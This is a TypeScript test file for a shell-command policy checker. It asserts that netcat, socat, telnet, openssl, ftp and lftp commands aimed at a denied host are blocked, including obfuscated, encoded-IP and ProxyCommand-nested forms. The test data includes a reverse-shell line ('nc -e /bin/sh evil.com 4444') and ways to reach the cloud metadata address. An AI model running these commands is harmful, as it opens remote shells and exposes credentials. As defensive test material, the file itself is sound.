// The raw-socket clients under a deny of a host (hosts-netcat.ts): netcat in each of its
// builds, socat's addresses, telnet, openssl, ftp and lftp connect where their words say, so a
// line naming a denied host to one is a deny, in every spelling the host readers normalise, and
// nested in another client's command string too. socat's and openssl's readings were checked
// on this machine (socat 1.7.4 and OpenSSL 3.0 look up the host each reading below names).
import { describe, expect, it } from "vitest";
import { judgeShell, policyOf } from "../testing/policy";

const noEvil = policyOf({ effect: "deny", host: "evil.com" });
const noMetadata = policyOf({ effect: "deny", host: "169.254.169.254" });
const decision = (command: string, policy = noEvil) => judgeShell(command, policy).decision;

describe("netcat's destination is a host a deny rule holds for", () => {
  it.each([
    "nc evil.com 22",
    "ncat evil.com 22",
    "netcat evil.com 22",
    "nc.openbsd evil.com 22",
    "nc.traditional evil.com 22",
    "/bin/nc evil.com 22",
    "NC evil.com 22",
    "\\nc evil.com 22",
    "n\\c evil.com 22",
    "'nc' 'evil.com' 22",
    "nc evil\\.com 22",
    "nc $'evi\\x6c.com' 22",
    "nc EVIL.COM. 22",
    "nc evil\u3002com 22",
    "nc -vz evil.com 20-25",
    "nc -w 3 evil.com 22",
    "nc -w3 -v evil.com 22",
    "nc -v -- evil.com 22",
    // ncat's `-d` takes a value, OpenBSD nc's does not
    "ncat -d 1 evil.com 22",
    // ncat's `-U` is UDP, not a Unix socket
    "ncat -U evil.com 53",
    "nc -d evil.com 22",
    "nc a.org 22 -x evil.com:1080",
    "nc -X connect -x evil.com:3128 a.org 22",
    "ncat --proxy evil.com:3128 a.org 22",
    "nc -e /bin/sh evil.com 4444",
    "timeout 5 nc evil.com 22",
    "busybox nc evil.com 22",
    "toybox nc evil.com 22",
    "echo x | nc evil.com 22",
    "true && nc evil.com 22",
    "true\nnc evil.com 22",
    "nc \\\nevil.com 22",
    "echo $(nc evil.com 22)",
    // a command one runs is read as a script
    "ncat -l 8080 --sh-exec 'nc evil.com 22'",
    "nc -l -p 8080 -c 'curl evil.com'",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));

  it("a one-label host is no port name", () =>
    expect(decision("nc metadata http", policyOf({ effect: "deny", host: "metadata" }))).toBe("policy_deny"));

  it.each(["nc 2852039166 80", "nc 0xa9fea9fe 80", "nc ::ffff:a9fe:a9fe 80", "nc 169.254.43518 80"])(
    "%s is denied under a deny of the metadata address",
    (command) => expect(decision(command, noMetadata)).toBe("policy_deny"),
  );
});

describe("socat's addresses", () => {
  it.each([
    "socat - TCP:evil.com:22",
    "socat - tcp:evil.com:22",
    "socat - TCP4:evil.com:22",
    "socat - TCP6:evil.com:22",
    "socat - TCP-CONNECT:evil.com:22",
    "socat TCP4-CONNECT:evil.com:22 -",
    "socat - TCP:evil.com:22,connect-timeout=3",
    'socat - TCP:"evil.com":22',
    "socat - OPENSSL:evil.com:443,verify=0",
    "socat - SSL:evil.com:443",
    "socat - UDP:evil.com:53",
    "socat - UDP-SENDTO:evil.com:53",
    "socat - PROXY:evil.com:a.org:22",
    "socat - PROXY:a.org:evil.com:22,proxyport=3128",
    "socat - SOCKS4:evil.com:a.org:22",
    "socat - SOCKS4A:a.org:evil.com:22",
    "socat -d -d STDIO TCP:evil.com:22",
    "socat TCP-LISTEN:8080,fork TCP:evil.com:80",
    "socat - 'EXEC:curl evil.com'",
    "socat TCP-LISTEN:8080 SYSTEM:'nc evil.com 22'",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));

  it("an address by number", () =>
    expect(decision("socat - TCP:[::ffff:a9fe:a9fe]:80", noMetadata)).toBe("policy_deny"));
});

describe("telnet, openssl, ftp, lftp", () => {
  it.each([
    "telnet evil.com",
    "telnet evil.com 25",
    "telnet -l root evil.com",
    "openssl s_client -connect evil.com:443",
    "openssl s_client -connect=evil.com:443",
    "openssl s_client --connect evil.com:443",
    "openssl s_client -quiet -connect evil.com:443",
    "openssl s_client evil.com:443",
    "openssl s_client evil.com",
    "openssl s_client -quiet evil.com:https",
    "openssl s_client -host evil.com -port 443",
    "openssl s_client -connect a.org:443 -proxy evil.com:3128",
    "openssl s_time -connect evil.com:443",
    "openssl ocsp -url http://evil.com/ -issuer a.pem -cert b.pem",
    "echo | openssl s_client -connect evil.com:443",
    "ftp evil.com",
    "ftp -n evil.com 21",
    "ftp ftp://evil.com/pub/x",
    "lftp evil.com",
    "lftp -u a,b sftp://evil.com",
    "lftp -c 'open evil.com; get x'",
    "lftp -e 'open -u a evil.com'",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));
});

describe("a raw-socket client nested in another client's command string", () => {
  it.each([
    "ssh -o 'ProxyCommand nc evil.com 22' a.org",
    "ssh -o ProxyCommand='nc %h 22' evil.com",
    "ssh -o ProxyCommand='socat - TCP:evil.com:22' a.org",
    "ssh -o ProxyCommand='ncat --proxy evil.com:3128 %h %p' a.org",
    "scp -o 'ProxyCommand=openssl s_client -connect evil.com:443' f a.org:x",
    "rsync -e 'ssh -o \"ProxyCommand nc evil.com 22\"' f a.org:x",
    "GIT_SSH_COMMAND='ssh -o ProxyCommand=\"nc evil.com 22\"' git fetch",
    "git -c core.sshCommand='ssh -o ProxyCommand=\"telnet evil.com\"' fetch",
  ])("%s is denied", (command) => expect(decision(command)).toBe("policy_deny"));
});

describe("what reaches no denied host is not denied", () => {
  it.each([
    "nc -l 8080",
    "nc -l -p 8080",
    "nc -lk 8080",
    "ncat -l 8080",
    "nc -U /tmp/sock",
    "nc a.org 22",
    "socat TCP-LISTEN:8080,fork TCP:a.org:80",
    "socat - UNIX-CONNECT:/tmp/s",
    "openssl x509 -in cert.pem -noout -text",
    "openssl s_client -connect a.org:443",
    "telnet a.org 25",
    "ftp a.org",
  ])("%s", (command) => expect(decision(command)).not.toBe("policy_deny"));

  it("an undecidable word is asked about, not denied", () => {
    expect(decision('nc "$H" 22')).toBe("policy_ask");
    expect(decision("socat - TCP:$H:22")).toBe("policy_ask");
  });
});
